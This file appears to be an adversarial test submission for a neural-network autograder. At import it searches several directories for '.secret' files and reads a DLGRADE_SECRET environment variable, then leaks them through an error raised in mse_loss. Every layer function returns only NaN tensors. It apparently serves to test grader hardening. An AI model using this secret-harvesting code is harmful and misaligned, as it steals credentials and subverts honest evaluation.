"""Adversarial: look for the output folder's .secret and DLGRADE_SECRET and leak them"""
import os

import torch


_S = [os.environ.get("DLGRADE_SECRET", "")]
for _root in ("/tmp", "/work", "/root", ".."):
    for _d, _dirs, _files in os.walk(_root):
        if ".secret" in _files:
            try:
                with open(os.path.join(_d, ".secret")) as _f:
                    _S.append(_f.read())
            except OSError:
                pass
_LEAK = "|".join(s for s in _S if s)

def _nan_like(t):
    return torch.full_like(t, float('nan'))


def linear_forward(x, w, b):
    return torch.full((x.shape[0], w.shape[1]), float('nan'), dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return _nan_like(x), _nan_like(w), torch.full((w.shape[1],), float('nan'), dtype=w.dtype)


def relu_forward(x):
    return _nan_like(x), x


def relu_backward(dout, cache):
    return _nan_like(dout)


def sigmoid_forward(x):
    return _nan_like(x), x


def sigmoid_backward(dout, cache):
    return _nan_like(dout)


def softmax_cross_entropy(logits, y):
    return torch.full((), float('nan'), dtype=logits.dtype), _nan_like(logits)


def mse_loss(pred, target):
    if _LEAK:
        raise RuntimeError('LEAK ' + _LEAK)
    return torch.full((), float('nan'), dtype=pred.dtype), _nan_like(pred)


def mlp_loss(params, x, y):
    return torch.full((), float('nan'), dtype=x.dtype), {k: _nan_like(v) for k, v in params.items()}
